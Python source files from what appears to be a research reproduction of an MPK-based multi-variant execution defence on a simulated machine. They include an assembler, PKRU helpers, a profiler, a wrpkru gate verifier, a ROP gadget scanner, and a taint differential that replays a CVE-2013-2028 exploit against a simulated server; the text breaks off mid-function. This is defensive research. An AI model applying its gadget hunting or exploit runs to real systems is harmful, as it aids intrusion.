    This is the attacker's-eye view of ``.text`` used by the gadget finder:
    it walks *all* executable pages, including ones an in-process monitor
    tried to hide (XoM pages are executable and therefore scannable only
    via fetch — the gadget tools model offline binary analysis, which the
    paper's threat model grants the attacker for the application but not
    for the randomized monitor location).
    """
    for base, page in space.mapped_pages():
        if not page.prot & PROT_EXEC:
            continue
        yield from disassemble_bytes(bytes(page.data), base=base,
                                     skip_invalid=True)


def format_listing(pairs: List[Tuple[int, Instruction]]) -> str:
    return "\n".join(f"{addr:#014x}:  {instr.text()}" for addr, instr in pairs)
