"""Intel Memory Protection Keys (MPK/PKU) semantics.

MPK associates each page-table entry with one of 16 protection keys (bits
62:59 of the PTE on real hardware; a plain integer on ours).  A per-thread
32-bit PKRU register holds two bits per key:

* bit ``2k``   — AD, *access disable*: all data accesses are denied.
* bit ``2k+1`` — WD, *write disable*: data writes are denied.

The unprivileged ``wrpkru`` instruction updates PKRU instantly, with no TLB
shootdown.  Crucially, the keys only gate **data** accesses: instruction
fetch ignores PKRU, which is what gives execute-only memory (XoM) when a
page is executable, carries an access-disabled key, and has no read
permission.  sMVX leans on exactly this to hide its trampoline and monitor
code (paper §2.1, §3.4).
"""

from __future__ import annotations

NUM_PKEYS = 16

#: Key 0 is the default key assigned to every mapping unless changed with
#: ``pkey_mprotect``; on Linux PKRU resets leave key 0 fully accessible.
PKEY_DEFAULT = 0

#: PKRU value granting read+write on every key.
PKRU_ALLOW_ALL = 0

PKRU_MASK = (1 << (2 * NUM_PKEYS)) - 1


def _check_key(pkey: int) -> None:
    if not 0 <= pkey < NUM_PKEYS:
        raise ValueError(f"protection key out of range: {pkey}")


def pkru_disable_access(pkru: int, pkey: int) -> int:
    """Return ``pkru`` with the AD (access-disable) bit set for ``pkey``."""
    _check_key(pkey)
    return (pkru | (1 << (2 * pkey))) & PKRU_MASK


def pkru_disable_write(pkru: int, pkey: int) -> int:
    """Return ``pkru`` with the WD (write-disable) bit set for ``pkey``."""
    _check_key(pkey)
    return (pkru | (1 << (2 * pkey + 1))) & PKRU_MASK


def pkru_enable_all(pkru: int, pkey: int) -> int:
    """Return ``pkru`` with both AD and WD cleared for ``pkey``."""
    _check_key(pkey)
    return pkru & ~(0b11 << (2 * pkey)) & PKRU_MASK


def pkru_allows_read(pkru: int, pkey: int) -> bool:
    """True if a data *read* of a page tagged ``pkey`` is permitted."""
    _check_key(pkey)
    return not pkru & (1 << (2 * pkey))


def pkru_allows_write(pkru: int, pkey: int) -> bool:
    """True if a data *write* of a page tagged ``pkey`` is permitted."""
    _check_key(pkey)
    ad = pkru & (1 << (2 * pkey))
    wd = pkru & (1 << (2 * pkey + 1))
    return not ad and not wd


class PkeyAllocator:
    """Tracks which protection keys are allocated, like ``pkey_alloc(2)``.

    Key 0 is permanently reserved as the default key.
    """

    def __init__(self) -> None:
        self._allocated = {PKEY_DEFAULT}

    def alloc(self) -> int:
        """Allocate the lowest free key; raises OSError-ish when exhausted."""
        for key in range(1, NUM_PKEYS):
            if key not in self._allocated:
                self._allocated.add(key)
                return key
        raise RuntimeError("ENOSPC: all protection keys allocated")

    def free(self, pkey: int) -> None:
        _check_key(pkey)
        if pkey == PKEY_DEFAULT:
            raise ValueError("cannot free the default protection key")
        if pkey not in self._allocated:
            raise ValueError(f"protection key {pkey} is not allocated")
        self._allocated.discard(pkey)

    def is_allocated(self, pkey: int) -> bool:
        return pkey in self._allocated

    @property
    def allocated(self) -> frozenset:
        return frozenset(self._allocated)
