"""A tiny two-pass assembler for the simulated ISA.

Guest functions that must be *real machine code* (trampolines, PLT stubs,
ROP-gadget-bearing utilities, the vulnerable epilogue paths) are written
with this builder.  Labels are resolved on :meth:`Assembler.assemble`;
control-flow immediates become next-instruction-relative displacements so
the output is position independent.

Example::

    a = Assembler()
    a.mov_ri("rax", 0)
    a.label("loop")
    a.add_ri("rax", 1)
    a.cmp_ri("rax", 10)
    a.jne("loop")
    a.ret()
    code = a.assemble()          # bytes, 16 B per instruction
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Union

from repro.errors import ImageError
from repro.machine.isa import INSTR_SIZE, Instruction, Op


@dataclass(frozen=True)
class label:
    """A label reference usable anywhere an immediate is expected."""

    name: str


_Immediate = Union[int, label]


class Assembler:
    """Collects instructions and label definitions, then encodes them."""

    def __init__(self) -> None:
        self._items: List[object] = []

    # -- layout --------------------------------------------------------------

    def label(self, name: str) -> None:
        """Define ``name`` at the current position."""
        self._items.append(label(name))

    def raw(self, instr: Instruction) -> None:
        self._items.append(instr)

    def __len__(self) -> int:
        return sum(1 for item in self._items
                   if isinstance(item, Instruction) or
                   isinstance(item, _Pending))

    # -- instruction helpers ---------------------------------------------------

    def nop(self):
        self._emit(Op.NOP)

    def hlt(self):
        self._emit(Op.HLT)

    def mov_rr(self, dst: str, src: str):
        self._emit(Op.MOV_RR, dst, src)

    def mov_ri(self, dst: str, imm: _Immediate):
        self._emit(Op.MOV_RI, dst, imm=imm)

    def lea(self, dst: str, target: _Immediate):
        """RIP-relative address computation: ``dst = &target``."""
        self._emit(Op.LEA, dst, imm=target, rip_relative=True)

    def load(self, dst: str, base: str, disp: int = 0):
        self._emit(Op.LOAD, dst, base, imm=disp)

    def store(self, base: str, src: str, disp: int = 0):
        self._emit(Op.STORE, base, src, imm=disp)

    def load8(self, dst: str, base: str, disp: int = 0):
        self._emit(Op.LOAD8, dst, base, imm=disp)

    def store8(self, base: str, src: str, disp: int = 0):
        self._emit(Op.STORE8, base, src, imm=disp)

    def add_rr(self, dst: str, src: str):
        self._emit(Op.ADD_RR, dst, src)

    def add_ri(self, dst: str, imm: int):
        self._emit(Op.ADD_RI, dst, imm=imm)

    def sub_rr(self, dst: str, src: str):
        self._emit(Op.SUB_RR, dst, src)

    def sub_ri(self, dst: str, imm: int):
        self._emit(Op.SUB_RI, dst, imm=imm)

    def and_rr(self, dst: str, src: str):
        self._emit(Op.AND_RR, dst, src)

    def and_ri(self, dst: str, imm: int):
        self._emit(Op.AND_RI, dst, imm=imm)

    def or_rr(self, dst: str, src: str):
        self._emit(Op.OR_RR, dst, src)

    def or_ri(self, dst: str, imm: int):
        self._emit(Op.OR_RI, dst, imm=imm)

    def xor_rr(self, dst: str, src: str):
        self._emit(Op.XOR_RR, dst, src)

    def xor_ri(self, dst: str, imm: int):
        self._emit(Op.XOR_RI, dst, imm=imm)

    def shl_ri(self, dst: str, imm: int):
        self._emit(Op.SHL_RI, dst, imm=imm)

    def shr_ri(self, dst: str, imm: int):
        self._emit(Op.SHR_RI, dst, imm=imm)

    def mul_rr(self, dst: str, src: str):
        self._emit(Op.MUL_RR, dst, src)

    def not_r(self, dst: str):
        self._emit(Op.NOT_R, dst)

    def cmp_rr(self, left: str, right: str):
        self._emit(Op.CMP_RR, left, right)

    def cmp_ri(self, left: str, imm: int):
        self._emit(Op.CMP_RI, left, imm=imm)

    def test_rr(self, left: str, right: str):
        self._emit(Op.TEST_RR, left, right)

    def jmp(self, target: _Immediate):
        self._emit(Op.JMP, imm=target, rip_relative=True)

    def jmp_r(self, reg: str):
        self._emit(Op.JMP_R, reg)

    def jmp_m(self, slot: _Immediate):
        """Indirect jump through a memory word (e.g. a ``.got.plt`` slot)."""
        self._emit(Op.JMP_M, imm=slot, rip_relative=True)

    def je(self, target: _Immediate):
        self._emit(Op.JE, imm=target, rip_relative=True)

    def jne(self, target: _Immediate):
        self._emit(Op.JNE, imm=target, rip_relative=True)

    def jl(self, target: _Immediate):
        self._emit(Op.JL, imm=target, rip_relative=True)

    def jge(self, target: _Immediate):
        self._emit(Op.JGE, imm=target, rip_relative=True)

    def jb(self, target: _Immediate):
        self._emit(Op.JB, imm=target, rip_relative=True)

    def jae(self, target: _Immediate):
        self._emit(Op.JAE, imm=target, rip_relative=True)

    def call(self, target: _Immediate):
        self._emit(Op.CALL, imm=target, rip_relative=True)

    def call_r(self, reg: str):
        self._emit(Op.CALL_R, reg)

    def ret(self):
        self._emit(Op.RET)

    def push_r(self, reg: str):
        self._emit(Op.PUSH_R, reg)

    def pop_r(self, reg: str):
        self._emit(Op.POP_R, reg)

    def push_i(self, imm: int):
        self._emit(Op.PUSH_I, imm=imm)

    def wrpkru(self):
        self._emit(Op.WRPKRU)

    def rdpkru(self):
        self._emit(Op.RDPKRU)

    def syscall(self):
        self._emit(Op.SYSCALL)

    def hlcall(self, index: int):
        self._emit(Op.HLCALL, imm=index)

    def brk(self):
        self._emit(Op.BRK)

    # -- assembly --------------------------------------------------------------

    def _emit(self, op: Op, reg1: Optional[str] = None,
              reg2: Optional[str] = None, imm: _Immediate = 0,
              rip_relative: bool = False) -> None:
        if isinstance(imm, str):
            imm = label(imm)
        self._items.append(_Pending(op, reg1, reg2, imm, rip_relative))

    def labels(self, base: int = 0) -> Dict[str, int]:
        """Resolve label -> address assuming the code is placed at ``base``."""
        out: Dict[str, int] = {}
        offset = 0
        for item in self._items:
            if isinstance(item, label):
                if item.name in out:
                    raise ImageError(f"duplicate label {item.name!r}")
                out[item.name] = base + offset
            else:
                offset += INSTR_SIZE
        return out

    def assemble(self, base: int = 0,
                 externals: Optional[Dict[str, int]] = None) -> bytes:
        """Encode to bytes as if loaded at ``base``.

        ``externals`` supplies absolute addresses for label references not
        defined in this unit; they are converted to RIP-relative
        displacements where needed, so the result remains valid only for
        this ``base``.  (Intra-unit references are base-independent.)
        """
        addresses = self.labels(base)
        if externals:
            for name, addr in externals.items():
                addresses.setdefault(name, addr)
        out = bytearray()
        offset = 0
        for item in self._items:
            if isinstance(item, label):
                continue
            pc_next = base + offset + INSTR_SIZE
            imm = item.imm
            if isinstance(imm, label):
                if imm.name not in addresses:
                    raise ImageError(f"undefined label {imm.name!r}")
                target = addresses[imm.name]
                imm = target - pc_next if item.rip_relative else target
            elif item.rip_relative:
                # numeric immediates of RIP-relative ops are absolute
                # targets; convert to a displacement for this base.
                imm = imm - pc_next
            out += Instruction(item.op, item.reg1, item.reg2, imm).encode()
            offset += INSTR_SIZE
        return bytes(out)


@dataclass
class _Pending:
    op: Op
    reg1: Optional[str]
    reg2: Optional[str]
    imm: _Immediate
    rip_relative: bool
