"""Analysis tooling: call graphs, CFG recovery, perf-style profiling,
pmap-style RSS, alias analysis, the ROP gadget scanner, the static
MPK-isolation / interception-coverage / divergence-surface verifier
(``python -m repro.analysis.verify``), and the automatic
selected-code-path derivation (``python -m repro.analysis scope``)."""

from repro.analysis.callgraph import INDIRECT, CallGraph, build_callgraph
from repro.analysis.alias import (
    AliasAnalysis,
    PointerTable,
    analyze_image_pointers,
    resolve_indirect_sites,
)
from repro.analysis.cfg import (
    BasicBlock,
    FunctionCFG,
    function_cfg,
    image_cfgs,
    recover_cfg,
)
from repro.analysis.findings import Finding, Severity, VerifyReport
from repro.analysis.scope import (
    FunctionScope,
    ScopeReport,
    TaintClass,
    compute_scope,
    derive_root,
)
from repro.analysis.perf import FunctionProfiler, FlameNode
from repro.analysis.pkru import GatePolicy, analyze_gate, verify_monitor_image
from repro.analysis.pmap import rss_kb, rss_report
from repro.analysis.gadgets import (
    Gadget,
    classify_gadget,
    find_gadgets,
    gadget_census,
)
# verify's entry points are exported lazily (PEP 562) so that
# ``python -m repro.analysis.verify`` does not trip the "found in
# sys.modules before execution" runpy warning.
_VERIFY_EXPORTS = ("audit_live_space", "explain_alarm", "verify_image",
                   "verify_process")


def __getattr__(name: str):
    if name in _VERIFY_EXPORTS:
        from repro.analysis import verify
        return getattr(verify, name)
    raise AttributeError(f"module {__name__!r} has no attribute {name!r}")


__all__ = [
    "AliasAnalysis",
    "BasicBlock",
    "CallGraph",
    "Finding",
    "FlameNode",
    "FunctionCFG",
    "FunctionProfiler",
    "FunctionScope",
    "Gadget",
    "GatePolicy",
    "INDIRECT",
    "PointerTable",
    "ScopeReport",
    "Severity",
    "TaintClass",
    "VerifyReport",
    "analyze_gate",
    "analyze_image_pointers",
    "audit_live_space",
    "build_callgraph",
    "classify_gadget",
    "compute_scope",
    "derive_root",
    "explain_alarm",
    "find_gadgets",
    "function_cfg",
    "gadget_census",
    "image_cfgs",
    "recover_cfg",
    "resolve_indirect_sites",
    "rss_kb",
    "rss_report",
    "verify_image",
    "verify_monitor_image",
    "verify_process",
]
