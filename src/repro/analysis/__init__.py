"""Analysis tooling: call graphs, perf-style profiling, pmap-style RSS,
alias analysis, and the ROP gadget scanner."""

from repro.analysis.callgraph import CallGraph, build_callgraph
from repro.analysis.alias import AliasAnalysis, analyze_image_pointers
from repro.analysis.perf import FunctionProfiler, FlameNode
from repro.analysis.pmap import rss_kb, rss_report
from repro.analysis.gadgets import Gadget, find_gadgets

__all__ = [
    "AliasAnalysis",
    "CallGraph",
    "FlameNode",
    "FunctionProfiler",
    "Gadget",
    "analyze_image_pointers",
    "build_callgraph",
    "find_gadgets",
    "rss_kb",
    "rss_report",
]
