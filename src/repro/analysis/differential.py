"""Static-vs-dynamic differential gate for the scope analysis.

The static selection (:mod:`repro.analysis.scope`) claims soundness in
one direction: every function network input *actually* reaches at
runtime must be inside the statically selected set.  This module checks
that claim empirically — the libdft-style dynamic engine
(:mod:`repro.taint`) observes a workload, and every function it records
touching tainted bytes must appear in the static ``ScopeReport``'s
selected set (dynamic ⊆ static).  A violation means the static model
missed a real flow (e.g. the post-return-laundering gap documented in
:mod:`repro.analysis.scope`) and the derived protected set would leave
genuinely attacker-reachable code unreplicated.

Executors cover the three bundled workloads, the CVE-2013-2028 exploit,
fault-schedule variation, and a ``repro.sim`` matrix slice (the swarm's
own seeds/schedules/request mixes replayed under the taint engine).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import FrozenSet, List, Optional, Tuple

from repro.analysis.scope import ScopeReport, compute_scope
from repro.taint.engine import TaintEngine
from repro.taint.report import DynamicSite, build_report, diff_against_static


@dataclass(frozen=True)
class DifferentialResult:
    """One workload's dynamic observation diffed against the static set."""

    workload: str
    seed: str
    static_selected: FrozenSet[str]
    #: every dynamic site, with ``statically_selected`` verdicts filled
    sites: Tuple[DynamicSite, ...]
    #: dynamically observed functions the static selection missed —
    #: non-empty means the static analysis is UNSOUND for this run
    missed: Tuple[str, ...]
    scope: ScopeReport
    alarms: int = 0

    @property
    def sound(self) -> bool:
        return not self.missed

    @property
    def dynamic_functions(self) -> FrozenSet[str]:
        return frozenset(site.function for site in self.sites)

    def format(self) -> str:
        verdict = "SOUND" if self.sound else "UNSOUND"
        lines = [f"differential {self.workload} [{self.seed}]: {verdict} "
                 f"({len(self.dynamic_functions)} dynamic ⊆ "
                 f"{len(self.static_selected)} static)"]
        for name in self.missed:
            lines.append(f"  MISSED by static selection: {name}")
        return "\n".join(lines)


def _diff(workload: str, seed: str, engine: TaintEngine, loaded,
          alarms: int = 0) -> DifferentialResult:
    scope = compute_scope(loaded.image)
    report = build_report(engine, loaded)
    sites, missed = diff_against_static(report, scope)
    return DifferentialResult(
        workload=workload, seed=seed,
        static_selected=scope.selected, sites=sites, missed=missed,
        scope=scope, alarms=alarms)


def run_minx_differential(seed: str = "diff/minx", requests: int = 5,
                          schedule=None, exploit: bool = False,
                          concurrency: int = 1) -> DifferentialResult:
    """Serve benign traffic (and optionally the CVE-2013-2028 exploit)
    through minx under the dynamic taint engine, then diff."""
    from repro.apps.minx import MinxServer
    from repro.kernel import Kernel
    from repro.workloads import ApacheBench

    kernel = Kernel(seed=seed)
    server = MinxServer(kernel)
    if schedule is not None:
        kernel.faults.install(schedule)
    engine = TaintEngine(server.process).attach()
    try:
        server.start()
        ApacheBench(kernel, server).run(requests,
                                        concurrency=concurrency)
        if exploit:
            from repro.attacks import run_exploit
            run_exploit(server)
    finally:
        engine.detach()
    return _diff("minx" + ("+cve" if exploit else ""), seed, engine,
                 server.loaded)


def run_littled_differential(seed: str = "diff/littled",
                             requests: int = 5, schedule=None,
                             concurrency: int = 1) -> DifferentialResult:
    from repro.apps.littled import LittledServer
    from repro.kernel import Kernel
    from repro.workloads import ApacheBench

    kernel = Kernel(seed=seed)
    server = LittledServer(kernel)
    if schedule is not None:
        kernel.faults.install(schedule)
    engine = TaintEngine(server.process).attach()
    try:
        server.start()
        ApacheBench(kernel, server).run(requests,
                                        concurrency=concurrency)
    finally:
        engine.detach()
    return _diff("littled", seed, engine, server.loaded)


def run_nbench_differential(seed: str = "diff/nbench",
                            workloads: Tuple[int, ...] = (0, 4, 8)
                            ) -> DifferentialResult:
    """Compute-only control: no network input, so the dynamic set — and
    the static selection — must both be empty."""
    from repro.apps.nbench import (
        build_nbench_image,
        provision_nbench_files,
    )
    from repro.core import build_smvx_stub_image
    from repro.kernel import Kernel
    from repro.libc import build_libc_image
    from repro.process import GuestProcess

    kernel = Kernel(seed=seed)
    provision_nbench_files(kernel.vfs)
    process = GuestProcess(kernel, "nbench", heap_pages=128)
    process.load_image(build_libc_image(), tag="libc")
    process.load_image(build_smvx_stub_image(), tag="libsmvx")
    loaded = process.load_image(build_nbench_image(), main=True)
    process.app_config = {"protect": None}
    engine = TaintEngine(process).attach()
    try:
        for index in workloads:
            process.call_function("nb_main", index)
    finally:
        engine.detach()
    return _diff("nbench", seed, engine, loaded)


def run_sim_slice(master_seed: str = "diff-swarm", count: int = 8,
                  start: int = 0,
                  requests_cap: int = 6) -> List[DifferentialResult]:
    """Replay a ``repro.sim`` matrix slice under the taint engine.

    The swarm's own scenario axes supply the variation — per-scenario
    seeds, fault schedules, request counts and concurrency — while the
    server runs unprotected with the engine attached (the engine needs
    to observe the guest space, and soundness must hold regardless of
    whether MVX is on).  Cluster and mutation scenarios are skipped:
    the former spans hosts the single-process engine cannot watch, the
    latter deliberately breaks the app.
    """
    from repro.sim.scenario import generate_matrix

    results: List[DifferentialResult] = []
    for scenario in generate_matrix(master_seed, count, start=start):
        if scenario.workload not in ("minx", "littled"):
            continue
        if getattr(scenario, "mutation", "none") != "none":
            continue
        requests = max(1, min(scenario.requests, requests_cap))
        schedule = scenario.schedule_obj()
        concurrency = max(1, min(scenario.concurrency, 4))
        if scenario.workload == "minx":
            results.append(run_minx_differential(
                seed=scenario.seed, requests=requests,
                schedule=schedule, concurrency=concurrency,
                exploit=scenario.attack == "cve"))
        else:
            results.append(run_littled_differential(
                seed=scenario.seed, requests=requests,
                schedule=schedule, concurrency=concurrency))
    return results
