"""perf-style profiling: virtual cycles attributed to guest functions.

The paper uses ``perf`` plus flame graphs to find that
``ngx_http_process_request_line()`` consumes 60.8% of Nginx's cycles and
``server_main_loop()`` 70% of Lighttpd's (§4.1, "CPU cycles saved").  The
:class:`FunctionProfiler` reproduces that measurement: it listens on a
process's cycle counter and attributes every charged nanosecond to the
guest call stack active at that instant — exclusive to the top frame,
inclusive to every frame (which is exactly what a folded flame graph
shows).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.process.process import GuestProcess

HOST_FRAME = "<host>"


@dataclass
class FlameNode:
    """One frame in the flame graph; children keyed by function name."""

    name: str
    self_ns: float = 0.0
    total_ns: float = 0.0
    children: Dict[str, "FlameNode"] = field(default_factory=dict)

    def render(self, indent: int = 0, min_ns: float = 0.0) -> str:
        lines = [f"{'  ' * indent}{self.name}: "
                 f"{self.total_ns / 1e6:.3f} ms"]
        for child in sorted(self.children.values(),
                            key=lambda n: -n.total_ns):
            if child.total_ns >= min_ns:
                lines.append(child.render(indent + 1, min_ns))
        return "\n".join(lines)


class FunctionProfiler:
    """Attach to a process; read percentages and flame data afterwards."""

    def __init__(self, process: GuestProcess):
        self.process = process
        self.total_ns = 0.0
        self.exclusive_ns: Dict[str, float] = {}
        self.inclusive_ns: Dict[str, float] = {}
        self.stack_ns: Dict[Tuple[str, ...], float] = {}
        self._attached = False

    # -- lifecycle ----------------------------------------------------------

    def attach(self) -> "FunctionProfiler":
        if self._attached:
            return self
        self.process.counter.add_listener(self._on_charge)
        self._attached = True
        return self

    def detach(self) -> None:
        if self._attached:
            self.process.counter.remove_listener(self._on_charge)
            self._attached = False

    def __enter__(self) -> "FunctionProfiler":
        return self.attach()

    def __exit__(self, *exc) -> None:
        self.detach()

    # -- sampling -------------------------------------------------------------

    def _on_charge(self, ns: float, category: str) -> None:
        thread = self.process.active_thread
        if thread is not None and thread.func_stack:
            stack = tuple(thread.func_stack)
        else:
            stack = (HOST_FRAME,)
        self.total_ns += ns
        self.stack_ns[stack] = self.stack_ns.get(stack, 0.0) + ns
        top = stack[-1]
        self.exclusive_ns[top] = self.exclusive_ns.get(top, 0.0) + ns
        for name in set(stack):
            self.inclusive_ns[name] = self.inclusive_ns.get(name, 0.0) + ns

    # -- reading ----------------------------------------------------------------

    def inclusive_fraction(self, name: str) -> float:
        """Fraction of all cycles spent within ``name``'s subtree — the
        number the paper reads off the flame graph (60.8% / 70%)."""
        if self.total_ns == 0:
            return 0.0
        return self.inclusive_ns.get(name, 0.0) / self.total_ns

    def hottest(self, count: int = 10) -> List[Tuple[str, float]]:
        ranked = sorted(self.exclusive_ns.items(), key=lambda kv: -kv[1])
        return ranked[:count]

    def flame_graph(self) -> FlameNode:
        root = FlameNode("all")
        root.total_ns = self.total_ns
        for stack, ns in self.stack_ns.items():
            node = root
            for name in stack:
                node = node.children.setdefault(name, FlameNode(name))
                node.total_ns += ns
            node.self_ns += ns
        return root

    def folded_stacks(self) -> List[str]:
        """Brendan-Gregg-style folded lines: ``a;b;c <ns>``."""
        return [f"{';'.join(stack)} {int(ns)}"
                for stack, ns in sorted(self.stack_ns.items())]
