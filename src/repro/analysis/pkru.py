"""ERIM-style PKRU-gate dataflow verification (paper §3.2/§3.4).

The sMVX security argument hinges on three statically checkable facts
about ``wrpkru``:

1. **Placement** — every PKRU-writing instruction lives inside the
   blessed trampoline (the monitor's call gates).  A ``wrpkru`` anywhere
   app-reachable is a gadget that opens the monitor's pkey.
2. **Entry pairing** — while the monitor key is *open*, the only code
   that may run is the reference-monitor gate, whose first action is the
   safe-stack pivot.  Statically: every call executed in the open state
   must target a registered gate symbol; indirect control flow in the
   open state is forbidden outright.
3. **Exit discipline** — every path out of the trampoline (``ret`` back
   to the application, or a jump leaving the function) must have
   restored PKRU to the closed value first.

This module proves those properties by abstract interpretation over the
recovered CFG (:mod:`repro.analysis.cfg`).  The abstract state tracks
PKRU plus the three registers ``wrpkru`` consumes (``rax`` carries the
new value; ``rcx``/``rdx`` must be zero, mirroring the hardware check the
CPU model enforces) through constant propagation; any join of unequal
values widens to ⊤ (unknown), which the checks treat pessimistically.

Finding codes:

* ``PKRU001`` — stray ``wrpkru`` outside the blessed trampoline
* ``PKRU002`` — ``wrpkru`` reachable with non-zero ``rcx``/``rdx``
* ``PKRU003`` — ``wrpkru`` writes a non-constant or unexpected value
* ``PKRU004`` — exit path reachable with PKRU not closed
* ``PKRU005`` — open-state control transfer to a non-gate target
* ``PKRU006`` — open/close pair that never enters the gate (warning)
* ``PKRU007`` — gate symbol is not a high-level (stack-pivoting) entry
* ``PKRU008`` — interposition stub does not funnel into the trampoline
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Dict, FrozenSet, Iterator, List, Optional, Tuple

from repro.analysis.cfg import (
    FunctionCFG,
    function_cfg,
    image_cfgs,
    symbol_resolver,
)
from repro.analysis.findings import Finding, Severity
from repro.loader.image import ProgramImage
from repro.machine.disasm import disassemble_bytes
from repro.machine.isa import INSTR_SIZE, Instruction, Op
from repro.machine.memory import PROT_EXEC


@dataclass(frozen=True)
class GatePolicy:
    """What the verifier must know about a correct monitor gate."""

    pkru_open: int
    pkru_closed: int
    #: symbols callable while the monitor key is open (the reference
    #: monitor entry; its first action is the safe-stack pivot)
    gate_symbols: FrozenSet[str] = frozenset({"smvx_gate"})
    trampoline_symbol: str = "smvx_trampoline"


class _Top:
    """Singleton ⊤ for the constant lattice."""

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return "⊤"


TOP = _Top()

_TRACKED = ("rax", "rcx", "rdx")

_ARITH_RI = {
    Op.ADD_RI: lambda v, imm: v + imm,
    Op.SUB_RI: lambda v, imm: v - imm,
    Op.AND_RI: lambda v, imm: v & imm,
    Op.OR_RI: lambda v, imm: v | imm,
    Op.XOR_RI: lambda v, imm: v ^ imm,
    Op.SHL_RI: lambda v, imm: (v << (imm & 63)),
    Op.SHR_RI: lambda v, imm: (v & (1 << 64) - 1) >> (imm & 63),
}

#: ops whose reg1 operand is a destination write
_REG1_WRITES = frozenset({
    Op.MOV_RR, Op.MOV_RI, Op.LEA, Op.LOAD, Op.LOAD8, Op.POP_R,
    Op.ADD_RR, Op.ADD_RI, Op.SUB_RR, Op.SUB_RI, Op.AND_RR, Op.AND_RI,
    Op.OR_RR, Op.OR_RI, Op.XOR_RR, Op.XOR_RI, Op.SHL_RI, Op.SHR_RI,
    Op.MUL_RR, Op.NOT_R,
})


def _merge_value(left, right):
    if left is TOP or right is TOP or left != right:
        return TOP
    return left


@dataclass
class _State:
    """Abstract machine state at a program point."""

    pkru: object          # int constant or TOP
    regs: Dict[str, object]
    gate_called: bool     # a gate entry happened since the last open

    def copy(self) -> "_State":
        return _State(self.pkru, dict(self.regs), self.gate_called)

    def merge(self, other: "_State") -> "_State":
        return _State(
            _merge_value(self.pkru, other.pkru),
            {reg: _merge_value(self.regs[reg], other.regs[reg])
             for reg in _TRACKED},
            self.gate_called and other.gate_called)

    def same_as(self, other: "_State") -> bool:
        def key(value):
            return ("T",) if value is TOP else ("C", value)
        return (key(self.pkru) == key(other.pkru)
                and self.gate_called == other.gate_called
                and all(key(self.regs[r]) == key(other.regs[r])
                        for r in _TRACKED))


class _GateAnalysis:
    """Worklist abstract interpretation of one function."""

    def __init__(self, cfg: FunctionCFG, policy: GatePolicy,
                 resolve: Callable[[int], Optional[str]],
                 image_name: str = ""):
        self.cfg = cfg
        self.policy = policy
        self.resolve = resolve
        self.image_name = image_name
        self._findings: Dict[Tuple[str, int, str], Finding] = {}

    # -- findings (deduplicated: transfer re-runs to fixpoint) --------------

    def _flag(self, code: str, severity: Severity, address: int,
              message: str) -> None:
        key = (code, address, message)
        if key not in self._findings:
            self._findings[key] = Finding(
                code, severity, message, image=self.image_name,
                symbol=self.cfg.name, address=address)

    # -- transfer -----------------------------------------------------------

    def _transfer(self, state: _State, addr: int,
                  instr: Instruction) -> _State:
        op = instr.op
        policy = self.policy

        if op is Op.WRPKRU:
            for reg in ("rcx", "rdx"):
                if state.regs[reg] is TOP or state.regs[reg] != 0:
                    self._flag("PKRU002", Severity.ERROR, addr,
                               f"wrpkru reachable with {reg} not proven "
                               f"zero (hardware would fault, but the "
                               f"path exists)")
            value = state.regs["rax"]
            if value is TOP:
                self._flag("PKRU003", Severity.ERROR, addr,
                           "wrpkru writes a non-constant PKRU value")
                state.pkru = TOP
            elif value == policy.pkru_open:
                state.pkru = policy.pkru_open
                state.gate_called = False
            elif value == policy.pkru_closed:
                if state.pkru == policy.pkru_open \
                        and not state.gate_called:
                    self._flag("PKRU006", Severity.WARNING, addr,
                               "monitor key opened and closed without "
                               "entering the gate")
                state.pkru = policy.pkru_closed
            else:
                self._flag("PKRU003", Severity.ERROR, addr,
                           f"wrpkru writes unexpected constant "
                           f"{value:#x} (neither the open nor the "
                           f"closed PKRU)")
                state.pkru = value
            return state

        if op is Op.RDPKRU:
            state.regs["rax"] = state.pkru
            return state

        if op in (Op.CALL, Op.HLCALL, Op.CALL_R):
            if state.pkru is TOP:
                self._flag("PKRU005", Severity.ERROR, addr,
                           "call executed with indeterminate PKRU")
            elif state.pkru == self.policy.pkru_open:
                target_name = None
                if op is Op.CALL:
                    target_name = self.resolve(addr + INSTR_SIZE
                                               + instr.imm)
                if op is Op.CALL_R:
                    self._flag("PKRU005", Severity.ERROR, addr,
                               "indirect call while the monitor key is "
                               "open")
                elif target_name not in self.policy.gate_symbols:
                    self._flag("PKRU005", Severity.ERROR, addr,
                               f"open-state call targets "
                               f"{target_name or 'unknown code'!r}, not "
                               f"a registered gate entry")
                else:
                    state.gate_called = True
            for reg in _TRACKED:      # caller-saved: callee clobbers
                state.regs[reg] = TOP
            return state

        if op in (Op.JMP_R, Op.JMP_M) and (
                state.pkru is TOP
                or state.pkru == self.policy.pkru_open):
            self._flag("PKRU005", Severity.ERROR, addr,
                       "indirect jump while the monitor key is open or "
                       "indeterminate")
            return state

        if op is Op.RET:
            self._check_exit(state, addr, "returns to application code")
            return state

        # ---- plain constant propagation ----
        if op in _REG1_WRITES and instr.reg1 in _TRACKED:
            state.regs[instr.reg1] = self._value_of(state, instr)
        return state

    def _value_of(self, state: _State, instr: Instruction):
        op = instr.op
        if op is Op.MOV_RI:
            return instr.imm
        if op is Op.MOV_RR:
            return (state.regs[instr.reg2] if instr.reg2 in _TRACKED
                    else TOP)
        if op is Op.XOR_RR and instr.reg1 == instr.reg2:
            return 0
        if op in _ARITH_RI:
            current = state.regs[instr.reg1]
            if current is not TOP:
                return _ARITH_RI[op](current, instr.imm)
        return TOP

    def _check_exit(self, state: _State, addr: int, how: str) -> None:
        if state.pkru is TOP or state.pkru != self.policy.pkru_closed:
            shown = ("indeterminate" if state.pkru is TOP
                     else f"{state.pkru:#x}")
            self._flag("PKRU004", Severity.ERROR, addr,
                       f"exit path {how} with PKRU {shown} instead of "
                       f"the closed value {self.policy.pkru_closed:#x}")

    # -- driver --------------------------------------------------------------

    def run(self, entry_state: Optional[_State] = None) -> List[Finding]:
        cfg = self.cfg
        if entry_state is None:
            entry_state = _State(self.policy.pkru_closed,
                                 {reg: TOP for reg in _TRACKED}, True)
        in_states: Dict[int, _State] = {cfg.entry: entry_state}
        worklist = [cfg.entry]
        escape_sites = dict(cfg.escapes)
        while worklist:
            start = worklist.pop()
            block = cfg.blocks.get(start)
            if block is None:
                continue
            state = in_states[start].copy()
            for addr, instr in block.instructions:
